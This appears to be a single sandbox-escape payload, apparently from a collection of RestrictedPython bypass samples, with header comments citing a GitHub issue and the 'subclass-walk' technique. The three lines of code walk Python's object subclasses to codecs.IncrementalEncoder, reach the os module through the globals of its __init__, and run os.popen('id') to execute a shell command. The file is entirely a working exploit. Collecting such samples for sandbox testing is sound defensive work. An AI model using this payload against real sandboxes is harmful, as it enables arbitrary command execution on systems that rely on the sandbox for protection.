# Source: https://github.com/zopefoundation/RestrictedPython/issues/142 (codecs.IncrementalEncoder __init__.__globals__ sys.modules os.popen)
# Family: subclass-walk
# What: codecs.IncrementalEncoder.__init__.__globals__['sys'].modules['os'].popen
subs = [].__class__.__base__.__subclasses__()
enc = [c for c in subs if c.__name__ == "IncrementalEncoder"][0]
print(enc.__init__.__globals__["sys"].modules["os"].popen("id").read())
